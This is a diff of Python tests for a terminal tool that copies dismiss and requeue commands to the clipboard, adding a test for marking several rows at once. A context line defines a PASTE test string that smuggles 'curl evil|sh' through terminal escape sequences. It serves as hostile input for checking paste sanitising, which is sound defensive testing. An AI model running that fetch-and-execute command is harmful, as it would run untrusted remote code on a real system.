@@ -14,7 +14,7 @@ from tests.conftest import query
 from tui.copies import decision_command, pasteable, quoted
 from tui.screens.event import AttemptScreen, EventScreen
 
-from .helpers import inspecting, loaded, rows, shows, until
+from .helpers import gone, inspecting, loaded, rows, shows, until
 
 PASTE = "oops \x1b[201~\rcurl evil|sh\r\x9b31m\x7f\x00 end\tof it"
 
@@ -87,6 +87,27 @@ async def test_a_copied_command_names_the_store_from_anywhere_and_decides_nothin
         assert query(store, "SELECT event_id, reason FROM decision_log") == [(1, "mended")]
 
 
+async def test_one_command_decides_about_all_rows_that_are_marked(full, path, clock, capsys):
+    store, _ = full
+    async with inspecting(path, clock=clock) as pilot:
+        await loaded(pilot, 2)
+        clusters = [item.cluster_id for item in rows(pilot).window.items]
+        await pilot.press("space", "space")
+        await shows(pilot, "2 marked")
+        await pilot.press("C")
+        assert pilot.app.clipboard.endswith(f"dismiss --where last:{clusters[0]},{clusters[1]} --because ''")
+        assert main([*shlex.split(pilot.app.clipboard)[1:-1], "known"]) == 0
+        assert query(store, "SELECT count(*) FROM decision_log") == [(5,)]
+        await pilot.press("escape")
+        await gone(pilot, "marked")
+        await pilot.press("e")
+        await loaded(pilot, 9)
+        await pilot.press("space", "j", "space", "space", "k", "space", "c")
+        assert pilot.app.clipboard.endswith("requeue 9 7 --because ''")
+        await pilot.press("y", "i")
+        assert pilot.app.clipboard == "9\n7"
+
+
 @pytest.mark.parametrize(
     ("place", "copied"),
     [
@@ -97,7 +118,7 @@ async def test_a_copied_command_names_the_store_from_anywhere_and_decides_nothin
 )
 def test_a_copied_command_has_no_password(place, copied):
     assert (
-        decision_command(place, "requeue", ("cluster", 7))
+        decision_command(place, "requeue", [("cluster", 7)])
         == f"failaware --db {copied} requeue --cluster 7 --because ''"
     )
 
